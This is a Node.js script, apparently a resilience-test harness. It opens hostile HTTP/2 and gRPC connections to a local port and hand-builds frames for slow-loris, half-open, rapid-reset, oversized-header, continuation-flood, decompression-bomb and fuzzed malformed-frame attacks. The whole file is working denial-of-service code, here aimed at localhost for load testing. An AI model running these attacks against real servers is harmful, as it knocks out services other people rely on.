// Clients that mean harm, at a bounded rate: the load beside them is measured on the same core.
//
//   node hostile-clients.mjs <port> <attack>
//
// Prints "attacking" when it does, and goes on until its input ends.
import { connect } from 'node:net';

const TICK_MS = 20;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const text = (value) => {
  const bytes = Buffer.from(value);
  const length =
    bytes.length < 127 ? [bytes.length] : [127, ((bytes.length - 127) & 127) | 128, (bytes.length - 127) >> 7];
  return Buffer.concat([Buffer.from(length), bytes]);
};
const field = (name, value) => Buffer.concat([Buffer.from([0]), text(name), text(value)]);
const headers = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  field(':path', '/inference.GRPCInferenceService/ModelInfer'),
  field('content-type', 'application/grpc'),
  field('te', 'trailers'),
]);
const hello = Buffer.concat([PREFACE, frame(4, 0, 0)]);
const message = (bytes, compressed = 0) => {
  const prefix = Buffer.alloc(5);
  prefix[0] = compressed;
  prefix.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([prefix, bytes]);
};

const port = Number(process.argv[2]);
const open = new Set();
function client(...bytes) {
  const socket = connect(port, '127.0.0.1');
  open.add(socket);
  // Being cut off is what it asks for.
  socket.on('error', () => socket.destroy()).on('close', () => open.delete(socket));
  socket.resume();
  socket.write(Buffer.concat(bytes));
  return socket;
}

/** The first `count` sockets that are still open, opened anew where they are not. */
function keep(count, ...bytes) {
  for (let more = Math.min(20, count - open.size); more > 0; more -= 1) client(...bytes);
  return open;
}

let seed = 11;
const random = (below) => (seed = (seed * 48_271) % 2_147_483_647) % below;
const valid = Buffer.concat([hello, frame(1, 4, 1, headers), frame(0, 1, 1, message(Buffer.alloc(60, 9)))]);

/** What happens every 20 ms. */
const attacks = {
  'slow-loris': () => {
    for (const socket of keep(500, hello, frame(1, 4, 1, headers).subarray(0, 30)))
      if (random(50) === 0) socket.write('x');
  },
  'half-open': () => {
    for (const socket of keep(500, hello, frame(1, 4, 1, headers))) socket.pause();
  },
  'rapid-reset': () => {
    const reset = Buffer.from([0, 0, 0, 8]);
    const calls = Array.from({ length: 100 }, (_, index) =>
      Buffer.concat([frame(1, 4, 2 * index + 1, headers), frame(3, 0, 2 * index + 1, reset)]),
    );
    client(hello, ...calls).end();
  },
  'giant-headers': () => {
    const large = Buffer.concat([headers, field('x', 'y'.repeat(12_000))]);
    client(hello, frame(1, 5, 1, large), frame(1, 5, 3, large)).end();
  },
  'continuation-flood': () => {
    client(hello, frame(1, 0, 1, headers), ...Array.from({ length: 100 }, () => frame(9, 0, 1, Buffer.from([0x82]))));
  },
  bombs: () => {
    const entry = Buffer.concat([Buffer.from([0x40, 1, 0x61, 127, 0x81, 23]), Buffer.alloc(3_072, 'x')]);
    client(
      hello,
      frame(1, 5, 1, Buffer.concat([headers, entry, Buffer.alloc(8_000, 0xbe)])),
      frame(1, 4, 3, Buffer.concat([headers, field('grpc-encoding', 'gzip')])),
      frame(0, 1, 3, message(Buffer.alloc(1_000), 1)),
    ).end();
  },
  malformed: () => {
    for (let index = 0; index < 10; index += 1) {
      const bytes = Buffer.from(valid);
      for (let changes = 0; changes < 4; changes += 1)
        bytes[random(3) === 0 ? random(bytes.length) : 33 + random(bytes.length - 33)] = random(256);
      client(bytes).end();
    }
  },
};

const attack = attacks[process.argv[3]];
if (!attack) throw new Error(`the attacks are ${Object.keys(attacks).join(', ')}`);
setInterval(attack, TICK_MS);
process.stdout.write('attacking\n');
process.stdin.on('end', () => process.exit(0)).resume();
